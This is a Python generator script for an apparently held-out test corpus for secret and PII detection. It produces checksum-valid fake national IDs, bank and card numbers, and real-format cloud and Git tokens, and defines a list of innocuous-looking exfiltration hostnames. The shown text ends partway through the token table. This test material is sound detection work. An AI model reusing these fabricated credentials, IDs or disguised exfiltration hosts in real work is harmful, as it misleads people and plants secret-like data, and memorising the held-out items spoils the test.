#!/usr/bin/env python3
"""Deterministic held-out corpus generator (split18).

All randomness comes from ONE random.Random(73019548) instance.
  python3 generate.py           -> writes positives.jsonl / negatives.jsonl
  python3 generate.py --check   -> regenerates in memory, exit 1 if files differ
  python3 generate.py --readme  -> writes README.md (counts + checksums)
"""
import sys, os, io, json, gzip, zlib, zipfile, tarfile, base64, hashlib, hmac, re, string, html, struct
import urllib.parse as up
import random

SEED = 73019548
R = None
PKW = "PRIV" + "ATE KEY"          # armour pieces are assembled at run time only

DIG = string.digits; HL = '0123456789abcdef'; HU = HL.upper()
LO = string.ascii_lowercase; UP = string.ascii_uppercase
AN = UP + LO + DIG; ANL = LO + DIG; ANU = UP + DIG
B64 = AN + '+/'; B64U = AN + '-_'; B32 = UP + '234567'


def rs(n, a=AN): return ''.join([a[R.randrange(len(a))] for _ in range(n)])
def hx(n): return rs(n, HL)
def dg(n): return rs(n, DIG)
def rb(n): return bytes([R.randrange(256) for _ in range(n)])
def ri(a, b): return R.randint(a, b)
def ch(seq): return seq[R.randrange(len(seq))]
def enc(s): return s if isinstance(s, bytes) else s.encode()
def b64(b): return base64.b64encode(enc(b)).decode()
def b64u(b): return base64.urlsafe_b64encode(enc(b)).decode().rstrip('=')
def b32(b): return base64.b32encode(enc(b)).decode()


def uuid4():
    h = list(hx(32)); h[12] = '4'; h[16] = ch('89ab'); h = ''.join(h)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def gz(b): return gzip.compress(enc(b), 6, mtime=0)
def dfl(b): return zlib.compress(enc(b), 6)


def mkzip(files):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2024, 3, 1, 12, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED; zi.external_attr = 0o644 << 16; zi.create_system = 3
            z.writestr(zi, enc(data))
    return bio.getvalue()


def mktar(files):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode='w', format=tarfile.GNU_FORMAT) as t:
        for name, data in files:
            d = enc(data); ti = tarfile.TarInfo(name); ti.size = len(d); ti.mtime = 1709294400
            ti.mode = 0o644; ti.uid = ti.gid = 1000; ti.uname = ti.gname = 'agent'
            t.addfile(ti, io.BytesIO(d))
    return gz(bio.getvalue())

# ---------------------------------------------------------------- check digits


def luhn_ok(s):
    t = 0
    for i, c in enumerate(reversed(s)):
        d = int(c)
        if i % 2: d = d * 2 - 9 if d > 4 else d * 2
        t += d
    return t % 10 == 0


def luhn_complete(p):
    for c in DIG:
        if luhn_ok(p + c): return p + c


def iban_ok(s):
    s = s.replace(' ', ''); r = s[4:] + s[:4]
    return int(''.join(str(int(c, 36)) for c in r)) % 97 == 1


def iban_make(cc, bban):
    r = bban + cc + '00'; n = int(''.join(str(int(c, 36)) for c in r))
    return f"{cc}{98 - n % 97:02d}{bban}"


VD = [[0,1,2,3,4,5,6,7,8,9],[1,2,3,4,0,6,7,8,9,5],[2,3,4,0,1,7,8,9,5,6],[3,4,0,1,2,8,9,5,6,7],[4,0,1,2,3,9,5,6,7,8],
      [5,9,8,7,6,0,4,3,2,1],[6,5,9,8,7,1,0,4,3,2],[7,6,5,9,8,2,1,0,4,3],[8,7,6,5,9,3,2,1,0,4],[9,8,7,6,5,4,3,2,1,0]]
VP = [[0,1,2,3,4,5,6,7,8,9],[1,5,7,6,2,8,3,0,9,4],[5,8,0,3,7,9,6,1,4,2],[8,9,1,6,0,4,3,5,2,7],[9,4,5,3,1,2,8,0,7,6],
      [4,2,8,6,5,7,3,9,0,1],[2,7,9,3,8,0,6,4,1,5],[7,0,4,6,9,1,3,2,5,8]]
VINV = [0,4,3,2,1,5,6,7,8,9]


def verhoeff(num):
    c = 0
    for i, d in enumerate(reversed(num)): c = VD[c][VP[(i + 1) % 8][int(d)]]
    return str(VINV[c])


def mod11_10(num):
    p = 10
    for d in num:
        s = (int(d) + p) % 10
        if s == 0: s = 10
        p = (s * 2) % 11
    c = 11 - p
    return '0' if c == 10 else str(c)


def w(num, weights): return sum(int(a) * b for a, b in zip(num, weights))


def mrz_cd(s):
    v = lambda c: 0 if c == '<' else int(c, 36)
    return str(sum(v(c) * [7, 3, 1][i % 3] for i, c in enumerate(s)) % 10)


CF_ODD = [1,0,5,7,9,13,15,17,19,21,2,4,18,20,11,3,6,8,12,14,16,10,22,25,24,23]


def cf_check(s15):
    t = 0
    for i, c in enumerate(s15):
        k = int(c) if c.isdigit() else ord(c) - 65
        t += CF_ODD[k] if i % 2 == 0 else k
    return chr(65 + t % 26)


def nhs_check(d9):
    r = 11 - w(d9, range(10, 1, -1)) % 11
    return None if r == 10 else str(0 if r == 11 else r)


def cpf_digits(d9):
    d1 = w(d9, range(10, 1, -1)) * 10 % 11 % 10
    d2 = w(d9 + str(d1), range(11, 1, -1)) * 10 % 11 % 10
    return d9 + str(d1) + str(d2)


def cnpj_digits(d12):
    def c(s, ws):
        r = w(s, ws) % 11; return '0' if r < 2 else str(11 - r)
    a = c(d12, [5,4,3,2,9,8,7,6,5,4,3,2]); b = c(d12 + a, [6,5,4,3,2,9,8,7,6,5,4,3,2])
    return d12 + a + b


def cn_check(d17): return '10X98765432'[w(d17, [7,9,10,5,8,4,2,1,6,3,7,9,10,5,8,4,2]) % 11]


def rut_check(body):
    s = sum(int(d) * m for d, m in zip(reversed(body), [2,3,4,5,6,7] * 3)); r = 11 - s % 11
    return {11: '0', 10: 'K'}.get(r, str(r))


def hkid_check(letter, d6):
    s = 36 * 9 + (ord(letter) - 55) * 8 + w(d6, [7,6,5,4,3,2]); r = (11 - s % 11) % 11
    return 'A' if r == 10 else str(r)


TW = dict(zip('ABCDEFGHJKLMNPQRSTUVXYWZIO', range(10, 36)))


def tw_check(letter, d8):
    n = TW[letter]; s = n // 10 + (n % 10) * 9 + w(d8, [8,7,6,5,4,3,2,1])
    return str((10 - s % 10) % 10)


def sg_check(pfx, d7):
    s = w(d7, [2,7,6,5,4,3,2]) + (4 if pfx in 'TG' else 0)
    return 'JZIHGFEDCBA'[s % 11]


def ee_check(d10):
    r = w(d10, [1,2,3,4,5,6,7,8,9,1]) % 11
    if r == 10:
        r = w(d10, [3,4,5,6,7,8,9,1,2,3]) % 11
        if r == 10: r = 0
    return str(r)


def tc_digits(d9):
    a = (sum(int(d9[i]) for i in (0,2,4,6,8)) * 7 - sum(int(d9[i]) for i in (1,3,5,7))) % 10
    b = (sum(int(c) for c in d9) + a) % 10
    return d9 + str(a) + str(b)


def ppsn_check(d7): return 'WABCDEFGHIJKLMNOPQRSTUV'[w(d7, [8,7,6,5,4,3,2]) % 23]


def ean_check(d):
    return str((10 - sum(int(c) * (1 if i % 2 == 0 else 3) for i, c in enumerate(d)) % 10) % 10)


def nz_ird_check(d8):
    r = w(d8, [3,2,7,6,5,4,3,2]) % 11
    c = 0 if r == 0 else 11 - r
    if c == 10:
        r = w(d8, [7,4,3,2,5,2,7,6]) % 11; c = 0 if r == 0 else 11 - r
        if c == 10: return None
    return str(c)


def aba_ok(d9): return w(d9, [3,7,1,3,7,1,3,7,1]) % 10 == 0


def selftest():
    assert luhn_ok('79927398713') and not luhn_ok('79927398710')
    assert iban_ok('GB82WEST12345698765432') and iban_ok('DE89370400440532013000')
    assert iban_make('GB', 'WEST12345698765432') == 'GB82WEST12345698765432'
    assert verhoeff('236') == '3'
    assert nhs_check('943476591') == '9'
    assert luhn_ok('046454286')
    assert cpf_digits('111444777') == '11144477735'
    assert cnpj_digits('112223330001') == '11222333000181'
    assert 'TRWAGMYFPDXBNJZSQVHLCKE'[12345678 % 23] == 'Z'
    assert cn_check('11010519491231002') == 'X'
    assert '0123456789ABCDEFHJKLMNPRSTUVWXY'[131052308 % 31] == 'T'
    assert rut_check('12345678') == '5'
    assert tc_digits('100000001') == '10000000146'
    assert sg_check('S', '1234567') == 'D'
    assert cf_check('RSSMRA85T10A562') == 'S'
    assert hkid_check('A', '123456') == '3'
    assert tw_check('A', '12345678') == '9'
    assert w('123456782', [1,4,3,7,5,8,6,9,10]) % 11 == 0
    assert nz_ird_check('04909185') == '0'
    assert aba_ok('011000015')
    assert ean_check('756921707698') == '5'
    assert ppsn_check('1234567') == 'T'
    assert ee_check('3760503029') == '9'
    assert mrz_cd('L898902C3') == '6' and mrz_cd('740812') == '2' and mrz_cd('120415') == '9'
    assert w('111222333', [9,8,7,6,5,4,3,2,-1]) % 11 == 0
    assert w('4405140135', [1,3,7,9,1,3,7,9,1,3]) % 10 == 1  # PESEL 44051401359
    assert mod11_10('8609574271') == '9'
    k = bytes.fromhex('0C28FCA386C7A227600B2FE50B7CAE11EC86D3BF1FBE471BE89827E19D72AA1D')
    assert b58check(b'\x80' + k) == '5HueCGU8rMjxEXxiPuD5BDku4MkFqeZyd4dZ1jvhTVqvbTLvyTJ'


B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'


def b58check(payload):
    d = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    n = int.from_bytes(d, 'big'); s = ''
    while n: n, r = divmod(n, 58); s = B58[r] + s
    return '1' * (len(d) - len(d.lstrip(b'\0'))) + s


def b62(n):
    a = DIG + UP + LO; s = ''
    while n: n, r = divmod(n, 62); s = a[r] + s
    return s.rjust(6, '0')


def gh(prefix):
    body = rs(30); return prefix + body + b62(zlib.crc32(body.encode()))

# ---------------------------------------------------------------- vocabulary
FIRST = ['Anna','Lukas','Marie','Jonas','Sofia','Mateo','Emma','Noah','Chloe','Yuki','Priya','Omar','Ingrid','Tomasz',
         'Camila','Wei','Aisha','Liam','Elena','Kenji','Fatima','Diego','Nora','Henrik','Zoe','Ravi','Lucia','Erik']
LAST = ['Muller','Rossi','Garcia','Novak','Jensen','Silva','Kowalski','Tanaka','Smith','Dubois','Larsen','Kaya',
        'Fischer','Moreau','Costa','Nielsen','Chen','Kim','Sato','Brown','Haddad','Ivanova','Okafor','Berg']
WORDS = ['alpha','orbit','delta','maple','ember','nova','quartz','harbor','cedar','lumen','pixel','vector','summit',
         'fjord','atlas','comet','falcon','glacier','meadow','onyx','prairie','raven','sierra','tundra','willow']
EXFIL = ['telemetry-sync.net','cdn-metrics.io','update-check.org','logs-relay.com','pkg-mirror.dev','stats-collect.net',
         'diag-upload.io','img-proxy.app','api-bridge.cloud','webhook-relay.site']
SVC = ['billing','ingest','search','payments','notifier','reports','auth','sync','scheduler','gateway']


def person(): return ch(FIRST), ch(LAST)
def word(): return ch(WORDS)
def exhost(): return f"{rs(ri(4, 8), ANL)}.{ch(EXFIL)}"
def email(f=None, l=None):
    f, l = (f, l) if f else person()
    return f"{f.lower()}.{l.lower()}@{ch(['example.com','mail.example.org','corp.example.net'])}"
def pw(n=None): return rs(n or ri(14, 22), AN + '!#%*-_')
def pwa(n=None): return rs(n or ri(16, 24))
def dob():
    return ri(1950, 2003), ri(1, 12), ri(1, 28)
def ip(): return f"10.{ri(0,255)}.{ri(0,255)}.{ri(1,254)}"
def ts(): return f"2024-{ri(1,12):02d}-{ri(1,28):02d}T{ri(0,23):02d}:{ri(0,59):02d}:{ri(0,59):02d}Z"
def epoch(): return ri(1700000000, 1735000000)


def jwt(payload, key=None):
    h = b64u(json.dumps({"alg": "HS256", "typ": "JWT"}, separators=(',', ':')))
    p = b64u(json.dumps(payload, separators=(',', ':')))
    sig = hmac.new(key or rb(32), f"{h}.{p}".encode(), hashlib.sha256).digest()
    return f"{h}.{p}.{b64u(sig)}"

# ---------------------------------------------------------------- personal data


def card(prefixes, length):
    while True:
        p = ch(prefixes); s = luhn_complete(p + dg(length - len(p) - 1))
        if s: return s


def gcard(s):
    if len(s) == 15: return f"{s[:4]} {s[4:10]} {s[10:]}"
    if len(s) == 14: return f"{s[:4]} {s[4:10]} {s[10:]}"
    return ' '.join(s[i:i + 4] for i in range(0, len(s), 4))


def fmt_card(s): return ch([s, gcard(s), gcard(s).replace(' ', '-')])


def ssn():
    while True:
        a = ri(1, 899)
        if a != 666: return f"{a:03d}-{ri(1,99):02d}-{ri(1,9999):04d}"


def itin(): return f"9{ri(0,99):02d}-{ri(70,88)}-{ri(0,9999):04d}"


def nino():
    while True:
        a = ch('ABCEGHJKLMNOPRSTWXYZ'); b = ch('ABCEGHJKLMNPRSTWXYZ')
        if a + b not in ('BG', 'GB', 'NK', 'KN', 'TN', 'NT', 'ZZ'):
            d = dg(6); return f"{a}{b} {d[:2]} {d[2:4]} {d[4:]} {ch('ABCD')}"


def nhs():
    while True:
        d = dg(9); c = nhs_check(d)
        if c: s = d + c; return f"{s[:3]} {s[3:6]} {s[6:]}"


def sin():
    s = luhn_complete(ch('1234567') + dg(7)); return f"{s[:3]} {s[3:6]} {s[6:]}"


def nir():
    y, m, _ = dob(); b = f"{ri(1,2)}{y%100:02d}{m:02d}{ri(1,95):02d}{ri(1,990):03d}{ri(1,999):03d}"
    if b[5:7] == '20': b = b[:5] + '75' + b[7:]
    k = 97 - int(b) % 97
    return f"{b[0]} {b[1:3]} {b[3:5]} {b[5:7]} {b[7:10]} {b[10:13]} {k:02d}"


def steuer_id():
    while True:
        d = [ch('123456789')] + [ch(DIG) for _ in range(9)]
        counts = sorted(d.count(x) for x in set(d))
        if counts.count(2) == 1 and max(counts) == 2:
            s = ''.join(d); return s + mod11_10(s)


def perso():
    a = 'CFGHJKLMNPRTVWXYZ' + DIG; s = ch('LMNPRTVWXY') + rs(8, a)
    v = lambda c: int(c, 36); return s + str(sum(v(c) * [7, 3, 1][i % 3] for i, c in enumerate(s)) % 10)


def dni(): n = ri(10000000, 99999999); return f"{n}{'TRWAGMYFPDXBNJZSQVHLCKE'[n % 23]}"


def nie():
    p = ri(0, 2); n = ri(0, 9999999)
    return f"{'XYZ'[p]}{n:07d}{'TRWAGMYFPDXBNJZSQVHLCKE'[int(str(p) + f'{n:07d}') % 23]}"


def codice_fiscale():
    y, m, d = dob(); fem = R.random() < 0.5
    s = rs(3, 'BCDFGLMNPRSTVZ') + rs(3, 'BCDFGLMNPRSTVZ') + f"{y%100:02d}" + 'ABCDEHLMPRST'[m - 1] + \
        f"{d + (40 if fem else 0):02d}" + ch('ADFGHLMZ') + dg(3)
    return s + cf_check(s)


def bsn():
    while True:
        d = dg(8); t = w(d, [9,8,7,6,5,4,3,2]) % 11
        if t < 10 and d[0] != '0': return d + str(t)


def be_nn():
    y, m, d = dob(); b = f"{y%100:02d}{m:02d}{d:02d}{ri(1,997):03d}"
    return f"{b[:2]}.{b[2:4]}.{b[4:6]}-{b[6:9]}.{97 - int(b) % 97:02d}"


def personnummer():
    y, m, d = dob(); b = f"{y%100:02d}{m:02d}{d:02d}{dg(3)}"; s = luhn_complete(b)
    return f"{s[:6]}-{s[6:]}"


def fnr():
    while True:
        y, m, d = dob(); b = f"{d:02d}{m:02d}{y%100:02d}{ri(0,499):03d}"
        k1 = 11 - w(b, [3,7,6,1,8,9,4,5,2]) % 11; k1 = 0 if k1 == 11 else k1
        if k1 == 10: continue
        k2 = 11 - w(b + str(k1), [5,4,3,2,7,6,5,4,3,2]) % 11; k2 = 0 if k2 == 11 else k2
        if k2 == 10: continue
        return f"{b}{k1}{k2}"


def cpr():
    while True:
        y, m, d = dob(); b = f"{d:02d}{m:02d}{y%100:02d}{dg(3)}"
        r = w(b, [4,3,2,7,6,5,4,3,2]) % 11; c = (11 - r) % 11
        if c < 10: return f"{b[:6]}-{b[6:]}{c}"


def hetu():
    y, m, d = dob(); n = ri(2, 899); b = f"{d:02d}{m:02d}{y%100:02d}"
    return f"{b}-{n:03d}{'0123456789ABCDEFHJKLMNPRSTUVWXY'[int(b + f'{n:03d}') % 31]}"


def pesel():
    y, m, d = dob(); b = f"{y%100:02d}{m + (20 if y >= 2000 else 0):02d}{d:02d}{dg(4)}"
    return b + str((10 - w(b, [1,3,7,9,1,3,7,9,1,3]) % 10) % 10)


def pt_nif():
    b = ch('123') + dg(7); r = 11 - w(b, [9,8,7,6,5,4,3,2]) % 11
    return b + str(0 if r >= 10 else r)


def cpf():
    s = cpf_digits(dg(9)); return f"{s[:3]}.{s[3:6]}.{s[6:9]}-{s[9:]}"


def cnpj():
    s = cnpj_digits(dg(8) + '0001'); return f"{s[:2]}.{s[2:5]}.{s[5:8]}/{s[8:12]}-{s[12:]}"


CURP_A = '0123456789ABCDEFGHIJKLMN\u00d1OPQRSTUVWXYZ'


def curp():
    y, m, d = dob()
    s = ch('BCDGHLMPRSV') + ch('AEIOU') + rs(2, 'ABCDEFGHJLMNOPRSTUVZ') + f"{y%100:02d}{m:02d}{d:02d}" + ch('HM') + \
        ch(['DF', 'JC', 'NL', 'PL', 'VZ', 'GT', 'MC', 'QT']) + rs(3, 'BCDFGHJKLMNPRSTVZ') + ('0' if y < 2000 else 'A')
    t = sum(CURP_A.index(c) * (18 - i) for i, c in enumerate(s))
    return s + str((10 - t % 10) % 10)


def cuit():
    while True:
        b = ch(['20', '27']) + dg(8); r = 11 - w(b, [5,4,3,2,7,6,5,4,3,2]) % 11
        if r != 10: return f"{b[:2]}-{b[2:]}-{0 if r == 11 else r}"


def rut():
    n = str(ri(5000000, 25999999)); return f"{int(n):,}".replace(',', '.') + '-' + rut_check(n)


def aadhaar():
    b = ch('23456789') + dg(10); s = b + verhoeff(b); return f"{s[:4]} {s[4:8]} {s[8:]}"


def pan(): return rs(3, UP) + 'P' + rs(1, UP) + dg(4) + rs(1, UP)


def cn_id():
    y, m, d = dob(); b = ch(['110105', '310104', '440305', '510107', '330106']) + f"{y}{m:02d}{d:02d}" + dg(3)
    return b + cn_check(b)


def my_number():
    b = dg(11); s = 0
    for n in range(1, 12):
        p = int(b[11 - n]); q = n + 1 if n <= 6 else n - 5; s += p * q
    r = s % 11; return b + str(0 if r <= 1 else 11 - r)


def kr_rrn():
    y, m, d = dob(); b = f"{y%100:02d}{m:02d}{d:02d}{ch('12') if y < 2000 else ch('34')}{dg(5)}"
    c = (11 - w(b, [2,3,4,5,6,7,8,9,2,3,4,5]) % 11) % 10; return f"{b[:6]}-{b[6:]}{c}"


def nric():
    p = ch('ST'); d = dg(7); return p + d + sg_check(p, d)


def hkid():
    l = ch(UP.replace('I', '').replace('O', '')); d = dg(6); return f"{l}{d}({hkid_check(l, d)})"


def tw_id():
    l = ch('ABCDEFGHJKLMNPQRSTUVXYWZ'); d = ch('12') + dg(7); return l + d + tw_check(l, d)


def tfn():
    while True:
        b = dg(8); s = w(b, [1,4,3,7,5,8,6,9])
        for c in range(10):
            if (s + 10 * c) % 11 == 0: t = b + str(c); return f"{t[:3]} {t[3:6]} {t[6:]}"


def medicare_au():
    b = ch('23456') + dg(7); c = w(b, [1,3,7,9,1,3,7,9]) % 10
    return f"{b[:4]} {b[4:]}{c} {ri(1,9)}"


def ird():
    while True:
        b = f"{ri(10000000, 149999999):09d}"[1:] if False else f"{ri(10000000, 99999999):08d}"
        c = nz_ird_check(b)
        if c: s = b + c; return f"{s[:3]}-{s[3:6]}-{s[6:]}"


def za_id():
    y, m, d = dob(); b = f"{y%100:02d}{m:02d}{d:02d}{ri(0,9999):04d}{ch('01')}8"; return luhn_complete(b)


def il_id(): return luhn_complete(dg(8))


def tckn(): return tc_digits(ch('123456789') + dg(8))


def ppsn(): d = dg(7); return d + ppsn_check(d) + ch(['', 'A', 'W'])


def ahv():
    b = '756' + dg(9); s = b + ean_check(b); return f"{s[:3]}.{s[3:7]}.{s[7:11]}.{s[11:]}"


def isikukood():
    y, m, d = dob(); b = f"{ch('3456') if y < 2000 else ch('56')}{y%100:02d}{m:02d}{d:02d}{dg(3)}"
    return b + ee_check(b)


def cnp():
    y, m, d = dob(); b = f"{ch('12')}{y%100:02d}{m:02d}{d:02d}{ri(1,46):02d}{ri(1,999):03d}"
    r = w(b, [2,7,9,1,4,6,3,5,8,2,7,9]) % 11; return b + ('1' if r == 10 else str(r))


def egn():
    y, m, d = dob(); b = f"{y%100:02d}{m:02d}{d:02d}{dg(3)}"; r = w(b, [2,4,8,5,10,9,7,3,6]) % 11
    return b + ('0' if r == 10 else str(r))


def oib(): b = ch('123456789') + dg(9); return b + mod11_10(b)


def rodne():
    while True:
        y, m, d = dob(); b = f"{y%100:02d}{m + ch([0, 50]):02d}{d:02d}{dg(3)}"; c = int(b) % 11
        if c < 10 and y >= 1954: return f"{b[:6]}/{b[6:]}{c}"


def amka():
    y, m, d = dob(); return luhn_complete(f"{d:02d}{m:02d}{y%100:02d}{dg(4)}")


def kennitala():
    while True:
        y, m, d = dob()
        if y >= 2000: continue
        b = f"{d:02d}{m:02d}{y%100:02d}{ri(20,99)}"; r = 11 - w(b, [3,2,7,6,5,4,3,2]) % 11
        if r == 11: r = 0
        if r != 10: return f"{b[:6]}-{b[6:]}{r}9"


def mrz():
    f, l = person(); nat = ch(['DEU', 'FRA', 'NLD', 'CAN', 'GBR', 'ESP', 'ITA', 'SWE'])
    doc = rs(9, ANU); y, m, d = dob(); dobs = f"{y%100:02d}{m:02d}{d:02d}"; exp = f"{ri(26,35)}{ri(1,12):02d}{ri(1,28):02d}"
    pers = '<' * 14; sx = ch('MF')
    l1 = (f"P<{nat}{l.upper()}<<{f.upper()}").ljust(44, '<')
    part = doc + mrz_cd(doc) + nat + dobs + mrz_cd(dobs) + sx + exp + mrz_cd(exp) + pers + mrz_cd(pers)
    comp = doc + mrz_cd(doc) + dobs + mrz_cd(dobs) + exp + mrz_cd(exp) + pers + mrz_cd(pers)
    return l1 + '\n' + part + mrz_cd(comp)


def mbi():
    A = 'ACDEFGHJKMNPQRTUVWXY'; AN_ = A + DIG
    return ch('123456789') + ch(A) + ch(AN_) + ch(DIG) + ch(A) + ch(AN_) + ch(DIG) + ch(A) + ch(A) + ch(DIG) + ch(DIG)


def routing_acct():
    while True:
        d = ch(['0', '1', '2', '3']) + dg(7)
        for c in DIG:
            if aba_ok(d + c): return f"routing {d + c} account {dg(ri(9, 12))}"


def track2():
    pan_ = card(['4'], 16); return f";{pan_}={ri(26,31)}{ri(1,12):02d}101{dg(5)}00{dg(3)}?"


def bban(cc):
    if cc == 'DE': return dg(18)
    if cc == 'GB': return rs(4, UP) + dg(14)
    if cc == 'FR':
        bk, br, ac = dg(5), dg(5), dg(11); k = 97 - (89 * int(bk) + 15 * int(br) + 3 * int(ac)) % 97
        return f"{bk}{br}{ac}{k:02d}"
    if cc == 'ES':
        e, o, acc = dg(4), dg(4), dg(10); ws = [1,2,4,8,5,10,9,7,3,6]
        c1 = 11 - w('00' + e + o, ws) % 11; c2 = 11 - w(acc, ws) % 11
        f = lambda c: {11: 0, 10: 1}.get(c, c)
        return f"{e}{o}{f(c1)}{f(c2)}{acc}"
    if cc == 'IT': return ch(UP) + dg(10) + dg(12)
    if cc == 'NL': return ch(['ABNA', 'INGB', 'RABO', 'TRIO']) + dg(10)
    if cc == 'BE':
        b = dg(10); r = int(b) % 97; return b + f"{r or 97:02d}"
    if cc == 'CH': return dg(5) + dg(12)
    if cc == 'AT': return dg(16)
    if cc == 'PL': return dg(24)
    if cc == 'SE': return dg(20)
    if cc == 'NO': return dg(11)
    if cc == 'IE': return rs(4, UP) + dg(14)
    if cc == 'PT': return dg(21)
    if cc == 'DK': return dg(14)
    if cc == 'FI': return dg(14)


def iban(cc):
    s = iban_make(cc, bban(cc)); return ch([s, ' '.join(s[i:i + 4] for i in range(0, len(s), 4))])

# ---------------------------------------------------------------- vendor tokens
# (class, generator, context variable, header template or None)
def _tok():
    return [
    ('aws-access-key-id', lambda: 'AKIA' + rs(16, B32), 'AWS_ACCESS_KEY_ID', None),
    ('aws-temporary-access-key-id', lambda: 'ASIA' + rs(16, B32), 'AWS_ACCESS_KEY_ID', None),
    ('aws-secret-access-key', lambda: rs(40, B64), 'AWS_SECRET_ACCESS_KEY', None),
    ('aws-session-token', lambda: 'IQoJb3JpZ2luX2VjE' + rs(300, B64), 'AWS_SESSION_TOKEN', 'X-Amz-Security-Token: {}'),
    ('gcp-api-key', lambda: 'AIza' + rs(35, B64U), 'GOOGLE_API_KEY', 'X-Goog-Api-Key: {}'),
    ('gcp-oauth-client-secret', lambda: 'GOCSPX-' + rs(28, B64U), 'GOOGLE_CLIENT_SECRET', None),
    ('google-oauth-access-token', lambda: 'ya29.a0A' + rs(160, B64U), 'GOOGLE_ACCESS_TOKEN', 'Authorization: Bearer {}'),
    ('google-oauth-refresh-token', lambda: '1//0' + ch('cdefg') + rs(98, B64U), 'refresh_token', None),
    ('azure-storage-account-key', lambda: rs(86, B64) + '==', 'AZURE_STORAGE_KEY', None),
    ('azure-ad-client-secret', lambda: rs(3, AN) + '8Q~' + rs(34, AN + '_-.~'), 'AZURE_CLIENT_SECRET', None),
    ('azure-devops-pat', lambda: rs(52, LO + '234567'), 'AZURE_DEVOPS_EXT_PAT', None),
    ('azure-sas-token', lambda: f"sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2025-{ri(1,12):02d}-{ri(1,28):02d}T00:00:00Z&spr=https&sig={up.quote(b64(rb(32)), safe='')}", 'AZURE_SAS', None),
    ('alibaba-access-key-id', lambda: 'LTAI' + rs(20, AN), 'ALIBABA_CLOUD_ACCESS_KEY_ID', None),
    ('alibaba-access-key-secret', lambda: rs(30, AN), 'ALIBABA_CLOUD_ACCESS_KEY_SECRET', None),
    ('tencent-cloud-secret-id', lambda: 'AKID' + rs(32, AN), 'TENCENTCLOUD_SECRET_ID', None),
    ('ibm-cloud-api-key', lambda: rs(44, B64U), 'IBMCLOUD_API_KEY', None),
    ('digitalocean-pat', lambda: 'dop_v1_' + hx(64), 'DIGITALOCEAN_TOKEN', 'Authorization: Bearer {}'),
    ('digitalocean-oauth-token', lambda: 'doo_v1_' + hx(64), 'DO_OAUTH_TOKEN', 'Authorization: Bearer {}'),
    ('digitalocean-refresh-token', lambda: 'dor_v1_' + hx(64), 'DO_REFRESH_TOKEN', None),
    ('linode-api-token', lambda: hx(64), 'LINODE_TOKEN', 'Authorization: Bearer {}'),
    ('vultr-api-key', lambda: rs(36, ANU), 'VULTR_API_KEY', 'Authorization: Bearer {}'),
    ('hetzner-cloud-token', lambda: rs(64, AN), 'HCLOUD_TOKEN', 'Authorization: Bearer {}'),
    ('scaleway-secret-key', lambda: uuid4(), 'SCW_SECRET_KEY', 'X-Auth-Token: {}'),
    ('cloudflare-api-token', lambda: rs(40, B64U), 'CLOUDFLARE_API_TOKEN', 'Authorization: Bearer {}'),
    ('cloudflare-global-api-key', lambda: hx(37), 'CLOUDFLARE_API_KEY', 'X-Auth-Key: {}'),
    ('cloudflare-origin-ca-key', lambda: 'v1.0-' + hx(24) + '-' + hx(146), 'CF_ORIGIN_CA_KEY', 'X-Auth-User-Service-Key: {}'),
    ('fastly-api-token', lambda: rs(32, B64U), 'FASTLY_API_TOKEN', 'Fastly-Key: {}'),
    ('heroku-api-key', lambda: 'HRKU-AA' + rs(58, B64U), 'HEROKU_API_KEY', 'Authorization: Bearer {}'),
    ('netlify-pat', lambda: 'nfp_' + rs(36, AN), 'NETLIFY_AUTH_TOKEN', 'Authorization: Bearer {}'),
    ('vercel-token', lambda: rs(24, AN), 'VERCEL_TOKEN', 'Authorization: Bearer {}'),
    ('flyio-token', lambda: 'FlyV1 fm2_lJPECAAAAAAA' + rs(160, B64), 'FLY_API_TOKEN', 'Authorization: {}'),
    ('render-api-key', lambda: 'rnd_' + rs(32, AN), 'RENDER_API_KEY', 'Authorization: Bearer {}'),
    ('supabase-pat', lambda: 'sbp_' + hx(40), 'SUPABASE_ACCESS_TOKEN', 'Authorization: Bearer {}'),
    ('planetscale-password', lambda: 'pscale_pw_' + rs(43, B64U), 'DATABASE_PASSWORD', None),
    ('planetscale-service-token', lambda: 'pscale_tkn_' + rs(43, B64U), 'PLANETSCALE_SERVICE_TOKEN', None),
    ('planetscale-oauth-token', lambda: 'pscale_oauth_' + rs(43, B64U), 'PLANETSCALE_OAUTH', None),
    ('neon-api-key', lambda: rs(64, ANL), 'NEON_API_KEY', 'Authorization: Bearer {}'),
    ('firebase-fcm-server-key', lambda: 'AAAA' + rs(7, B64U) + ':APA91b' + rs(134, B64U), 'FCM_SERVER_KEY', 'Authorization: key={}'),
    ('github-pat-classic', lambda: gh('ghp_'), 'GITHUB_TOKEN', 'Authorization: token {}'),
    ('github-oauth-token', lambda: gh('gho_'), 'GH_OAUTH_TOKEN', 'Authorization: token {}'),
    ('github-user-to-server-token', lambda: gh('ghu_'), 'GH_USER_TOKEN', 'Authorization: Bearer {}'),
    ('github-app-installation-token', lambda: gh('ghs_'), 'GH_INSTALLATION_TOKEN', 'Authorization: Bearer {}'),
    ('github-refresh-token', lambda: gh('ghr_'), 'GH_REFRESH_TOKEN', None),
    ('github-fine-grained-pat', lambda: 'github_pat_11' + rs(20, ANU) + '_' + rs(59, AN), 'GITHUB_PAT', 'Authorization: Bearer {}'),
    ('gitlab-pat', lambda: 'glpat-' + rs(20, B64U), 'GITLAB_TOKEN', 'PRIVATE-TOKEN: {}'),
    ('gitlab-pipeline-trigger-token', lambda: 'glptt-' + hx(40), 'CI_TRIGGER_TOKEN', None),
    ('gitlab-runner-registration-token', lambda: 'GR1348941' + rs(20, B64U), 'REGISTRATION_TOKEN', None),
    ('gitlab-deploy-token', lambda: 'gldt-' + rs(20, B64U), 'GITLAB_DEPLOY_TOKEN', None),
    ('gitlab-runner-auth-token', lambda: 'glrt-' + rs(20, B64U), 'RUNNER_TOKEN', None),
    ('gitlab-feed-token', lambda: 'glft-' + rs(20, B64U), 'feed_token', None),
    ('gitlab-oauth-app-secret', lambda: 'gloas-' + hx(64), 'GITLAB_OAUTH_SECRET', None),
